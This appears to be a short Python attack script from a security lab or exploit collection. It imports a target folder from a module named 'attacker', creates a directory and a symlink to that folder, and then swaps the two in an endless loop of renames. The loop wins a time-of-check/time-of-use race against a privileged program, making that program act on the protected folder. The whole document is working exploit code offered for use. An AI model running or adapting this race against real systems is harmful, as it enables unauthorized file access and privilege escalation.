import os

from attacker import TARGET

os.makedirs("dir", exist_ok=True)
os.symlink(TARGET["folder"], "link")
while True:
    for source in ("dir", "link"):
        os.rename(source, "flip")
        os.rename("flip", source)
